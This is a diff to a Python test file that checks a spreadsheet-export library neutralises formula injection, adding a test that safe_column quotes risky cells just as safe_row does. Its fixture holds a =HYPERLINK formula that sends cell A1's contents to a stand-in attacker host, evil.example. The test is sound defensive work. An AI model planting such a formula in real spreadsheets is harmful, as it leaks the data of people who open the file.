@@ -8,7 +8,7 @@ import io
 import pytest
 
 from samen.core.models import ProcessingRule
-from samen.spreadsheets import SafeDictWriter, SafeWriter, safe_cell
+from samen.spreadsheets import SafeDictWriter, SafeWriter, safe_cell, safe_column, safe_row
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
 
@@ -45,3 +45,11 @@ def test_the_register_export_neutralises_formulas(web_for):
              for cell in row]  # fmt: skip
     assert "'" + HYPERLINK in cells and "'@SUM(1)" in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+def test_a_column_is_made_safe_exactly_as_its_cells():
+    plain = ["ad-1", "c0000001", "x=1", 12]
+    assert safe_column(plain) is plain  # nothing to guard: the list itself
+    risky = ["ad-1", '=HYPERLINK("x")', "-12", "@SUM(A1)", 7, None]
+    assert safe_column(risky) == safe_row(risky)
+    assert safe_column(risky)[1] == '\'=HYPERLINK("x")'
